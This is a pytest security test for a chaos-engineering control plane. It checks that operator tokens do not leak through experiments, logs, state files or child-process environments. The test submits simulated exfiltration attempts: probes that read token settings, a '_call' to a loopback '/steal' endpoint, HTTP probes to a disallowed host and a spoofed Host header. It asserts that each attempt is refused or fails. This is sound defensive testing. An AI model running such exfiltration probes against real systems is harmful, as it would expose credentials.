"""An operator's token never leaves through a live ``controlplane up``: experiments that try to read it
(``chaos.ctk.settings``, ``_call``), to point the extension at another host, or to make the control plane
fetch a host that is not allowed (a loopback server here, recording whatever reaches it) are refused or
fail, and the token appears in no journal a viewer reads, no log, and no child process's environment
(replicas, Prometheus, the console, a stress-ng stressor). The state folder is the owner's only.
(One test: each live control plane costs a minute of start-up here.)"""

from __future__ import annotations

import stat
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import httpx
import pytest

from .conftest import Running, poll, wait_ready

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]


class Outside(BaseHTTPRequestHandler):
    """A host experiments may not reach: it records every request that arrives anyway."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        type(self).seen.append(f"{self.command} {self.path} {dict(self.headers)}")
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_DELETE = do_GET

    def log_message(self, *args: Any) -> None:
        pass


@contextmanager
def outside_host() -> Iterator[str]:
    Outside.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Outside)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def ctk_probe(name: str, func: str, **arguments: Any) -> dict[str, Any]:
    return {"type": "probe", "name": name,
            "provider": {"type": "python", "module": "chaos.ctk", "func": func, "arguments": arguments}}


def http_probe(name: str, url: str, **provider: Any) -> dict[str, Any]:
    return {"type": "probe", "name": name, "provider": {"type": "http", "url": url, "timeout": 5, **provider}}


def descendants(root: int) -> list[int]:
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                parents[int(entry.name)] = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                continue
    found, frontier = [], [root]
    while frontier:
        parent = frontier.pop()
        children = [pid for pid, ppid in parents.items() if ppid == parent]
        found += children
        frontier += children
    return found


def environ(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        return b""


def cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def comm(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/comm").read_text().strip()
    except OSError:
        return ""


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_no_token_leaves_through_experiments_logs_files_or_children(running: Running) -> None:
    wait_ready(running, 3)
    admin = httpx.Client(base_url=running.api, headers={"Authorization": f"Bearer {running.token}"},
                         timeout=30, trust_env=False)
    issued = {role: admin.post("/api/v1/tokens", json={"name": f"sec-{role}", "role": role}).json()["token"]
              for role in ("operator", "viewer")}
    operator = httpx.Client(base_url=running.api, headers={"Authorization": f"Bearer {issued['operator']}"},
                            timeout=30, trust_env=False)
    viewer = httpx.Client(base_url=running.api, headers={"Authorization": f"Bearer {issued['viewer']}"},
                          timeout=30, trust_env=False)
    secrets = (issued["operator"].encode(), running.token.encode())
    try:
        with outside_host() as outside:
            # 1. What could read the token or send it anywhere is refused before anything runs.
            for probe in (ctk_probe("peek", "settings"), ctk_probe("peek", "_settings"),
                          ctk_probe("send", "_call", method="GET", path=f"{outside}/steal")):
                refused = operator.post("/api/v1/chaos/experiments", json={"experiment": {
                    "title": "read the token", "method": [probe]}})
                assert refused.status_code == 400, refused.text
                assert "is not a provider function" in refused.json()["error"]["message"]

            # 2. A run that points the extension elsewhere (in its configuration, and with a Host header
            # naming the outside host) and probes hosts that are not allowed.
            started = operator.post("/api/v1/chaos/experiments", json={"experiment": {
                "title": "exfiltration attempts", "description": "point the extension and http probes away",
                "configuration": {"controlplane_url": outside},  # the server's own URL wins
                "method": [ctk_probe("faults", "active_faults"),
                           http_probe("outside", f"{outside}/steal"),
                           http_probe("outside-by-name", outside.replace("127.0.0.1", "localhost")),
                           http_probe("own-api", f"{running.api}/health", expected_status=200)]}},
                headers={"Host": outside.removeprefix("http://")})
            assert started.status_code == 202, started.text
            exp_id = started.json()["id"]
            journal = poll(lambda: viewer.get(f"/api/v1/chaos/experiments/{exp_id}").json(),
                           lambda j: j.get("status") != "running", timeout=60)
            faults, away, by_name, own = journal["run"]
            assert faults["status"] == "succeeded" and faults["output"] == []  # asked the control plane
            for record in (away, by_name):
                assert record["status"] == "failed"
                assert "is not an allowed host for experiments" in record["exception"][-1]
            assert own["status"] == "succeeded" and own["output"]["status"] == 200

            # 3. A stressor, while every child of the control plane is looked at.
            inject = operator.post("/api/v1/chaos/faults", json={
                "kind": "stress", "params": {"cpu_workers": 1, "cpu_load": 5}, "duration_s": 60,
                "replicas": ["az-a-1"]})
            assert inject.status_code == 200, inject.text
            [fault] = inject.json()["faults"]
            assert fault["error"] is None, fault
            try:
                children = poll(lambda: descendants(running.process.pid),
                                lambda pids: any(comm(p).startswith("stress-ng") for p in pids), timeout=20)
                kinds = {comm(p)[:9] for p in children}
                assert {"stress-ng", "prometheu"} <= kinds, kinds
                assert sum(b"inference\0serve" in cmdline(p) for p in children) >= 3  # the replicas
                for pid in children:
                    env = environ(pid)
                    assert b"CONTROLPLANE_ADMIN_TOKEN=" not in env, (pid, comm(pid))
                    assert not any(s in env for s in secrets), (pid, comm(pid))
            finally:
                assert operator.delete(f"/api/v1/chaos/faults/{fault['id']}").json()["ok"]

            assert Outside.seen == []  # nothing, token or not, reached the host that is not allowed

        # 4. No journal, log or state file holds a token.
        listed = viewer.get("/api/v1/chaos/experiments").json()
        journals = [viewer.get(f"/api/v1/chaos/experiments/{e['id']}").text for e in listed]
        logs = [p.read_bytes() for p in running.state_dir.rglob("*.log")]
        for text in [j.encode() for j in journals] + logs:
            leaked = [s for s in secrets if s in text]
            assert not leaked, text[max(text.find(leaked[0]) - 300, 0):text.find(leaked[0]) + 100]
        # The terminal shows the first admin token once, by design; never the operator's.
        assert issued["operator"].encode() not in running.log.read_bytes()

        # 5. The state folder and its secrets are the owner's only.
        state = running.state_dir
        assert mode(state) == 0o700
        for name in ("controlplane.db", "controlplane.db-wal", "controlplane.db-shm", "replica-admin.key"):
            assert mode(state / name) == 0o600, name
    finally:
        for client in (admin, operator, viewer):
            client.close()
